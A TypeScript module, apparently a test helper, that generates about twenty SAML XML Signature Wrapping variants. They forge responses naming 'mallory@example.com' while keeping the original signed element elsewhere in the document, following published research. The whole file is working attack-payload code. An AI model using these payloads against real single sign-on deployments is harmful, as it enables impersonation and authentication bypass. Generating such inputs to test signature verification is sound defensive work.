import { DOMParser, XMLSerializer } from '@xmldom/xmldom'

const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#'
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol'

/** The parts of a signed response that a wrapping attack moves. */
type Parts = {
  readonly document: Document
  readonly response: Element
  /** The signed element: the response or its assertion. */
  readonly target: Element
  readonly signature: Element
  /** A copy of the signed element as it was signed, without its signature. */
  readonly original: Element
  /** A copy of the signed element with another name, another id, and no signature. */
  readonly evil: Element
}

const first = (parent: Document | Element, localName: string): Element => {
  const element = parent.getElementsByTagNameNS('*', localName)[0]
  if (!element) throw new Error(`no ${localName}`)
  return element
}

const childSignature = (parent: Element): Element => {
  const child = Array.from(parent.childNodes).find((node) => (node as Element).localName === 'Signature')
  if (!child) throw new Error('not signed')
  return child as Element
}

/** Makes the element name another person, under another id. */
const falsify = (element: Element): void => {
  element.setAttribute('ID', '_evil')
  first(element, 'NameID').textContent = 'mallory@example.com'
}

/** Applies an attack to a response in which the response or the assertion is signed, and returns its XML. */
const wrap = (xml: string, attack: (parts: Parts) => void): string => {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const response = document.documentElement
  const isSigned = Array.from(response.childNodes).some((node) => (node as Element).localName === 'Signature')
  const target = isSigned ? response : first(response, 'Assertion')
  const signature = childSignature(target)
  const original = target.cloneNode(true) as Element
  original.removeChild(childSignature(original))
  const evil = original.cloneNode(true) as Element
  falsify(evil)
  attack({ document, response, target, signature, original, evil })
  return new XMLSerializer().serializeToString(document)
}

/**
 * Signature wrapping in its published variants (Somorovsky et al., On Breaking SAML: Be Whoever You Want to Be, USENIX
 * Security 2012), as the usual tools build them: each keeps the signed element somewhere in the document, and has another
 * one where a service reads it. The first two were published for a signed response, the others for a signed assertion;
 * here each is also applied to the other kind, in its meaning.
 */
export const WRAPPING: Readonly<Record<string, (xml: string) => string>> = {
  '1, the signed response in the signature of the false one': (xml) =>
    wrap(xml, ({ target, signature, original }) => {
      falsify(target)
      signature.appendChild(original)
    }),
  '2, the signed response before the signature of the false one': (xml) =>
    wrap(xml, ({ target, signature, original }) => {
      falsify(target)
      target.insertBefore(original, signature)
    }),
  '3, a false assertion before the signed one': (xml) =>
    wrap(xml, ({ response, target, evil }) =>
      response.insertBefore(evil, target === response ? response.firstChild : target),
    ),
  '4, the signed assertion in a false one': (xml) =>
    wrap(xml, ({ target, evil }) => {
      target.parentNode?.replaceChild(evil, target)
      evil.appendChild(target)
    }),
  '5, the signed assertion after the false one that has its signature': (xml) =>
    wrap(xml, ({ response, target, original }) => {
      falsify(target)
      response.appendChild(original)
    }),
  '6, the signed assertion in the signature of the false one': (xml) =>
    wrap(xml, ({ target, signature, original }) => {
      falsify(target)
      signature.appendChild(original)
    }),
  '7, a false element in Extensions': (xml) =>
    wrap(xml, ({ document, response, target, evil }) => {
      const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions')
      evil.setAttribute('ID', target.getAttribute('ID') ?? '')
      extensions.appendChild(evil)
      response.insertBefore(extensions, response.firstChild)
    }),
  '8, the signed element in an Object of the signature': (xml) =>
    wrap(xml, ({ document, target, signature, original }) => {
      falsify(target)
      const object = document.createElementNS(SIGNATURE, 'ds:Object')
      object.appendChild(original)
      signature.appendChild(object)
    }),
}

/** Further variants: with one id for two elements, in places that no schema has, and under other names. */
export const MORE_WRAPPING: Readonly<Record<string, (xml: string) => string>> = {
  'a false element of the same id before the signed one': (xml) =>
    wrap(xml, ({ response, target, evil }) => {
      evil.setAttribute('ID', target.getAttribute('ID') ?? '')
      response.insertBefore(evil, response.firstChild)
    }),
  'a false element of the same id after the signed one': (xml) =>
    wrap(xml, ({ response, target, evil }) => {
      evil.setAttribute('ID', target.getAttribute('ID') ?? '')
      response.appendChild(evil)
    }),
  'the id of the signed element in another spelling': (xml) =>
    wrap(xml, ({ document, target, response }) => {
      const decoy = document.createElementNS('urn:decoy', 'decoy:Decoy')
      decoy.setAttribute('Id', target.getAttribute('ID') ?? '')
      response.appendChild(decoy)
    }),
  'the signature moved to a false element': (xml) =>
    wrap(xml, ({ response, target, signature, evil }) => {
      target.removeChild(signature)
      evil.insertBefore(signature, evil.firstChild?.nextSibling ?? null)
      if (target === response) response.appendChild(evil)
      else response.replaceChild(evil, target)
    }),
  'the false assertion in another namespace': (xml) =>
    wrap(xml, ({ document, response }) => {
      const decoy = document.createElementNS('urn:decoy', 'decoy:Assertion')
      response.insertBefore(decoy, response.firstChild)
    }),
  'the signed element in the KeyInfo of the signature': (xml) =>
    wrap(xml, ({ target, signature, original }) => {
      falsify(target)
      first(signature, 'KeyInfo').appendChild(original)
    }),
  'the signed element in the status': (xml) =>
    wrap(xml, ({ response, target, original }) => {
      falsify(target)
      first(response, 'Status').appendChild(original)
    }),
  'the signed element in the Advice of the false one': (xml) =>
    wrap(xml, ({ document, target, original }) => {
      falsify(target)
      const advice = document.createElementNS('urn:oasis:names:tc:SAML:2.0:assertion', 'saml:Advice')
      advice.appendChild(original)
      target.appendChild(advice)
    }),
  'two Signatures of one element': (xml) =>
    wrap(xml, ({ target, signature }) => target.insertBefore(signature.cloneNode(true), signature)),
  'two References in one Signature': (xml) =>
    wrap(xml, ({ signature }) => {
      const reference = first(signature, 'Reference')
      reference.parentNode?.appendChild(reference.cloneNode(true))
    }),
  'two SignedInfo in one Signature': (xml) =>
    wrap(xml, ({ signature }) => {
      const info = first(signature, 'SignedInfo')
      signature.insertBefore(info.cloneNode(true), info)
    }),
  'an Object in the Signature': (xml) =>
    wrap(xml, ({ document, signature }) => signature.appendChild(document.createElementNS(SIGNATURE, 'ds:Object'))),
}
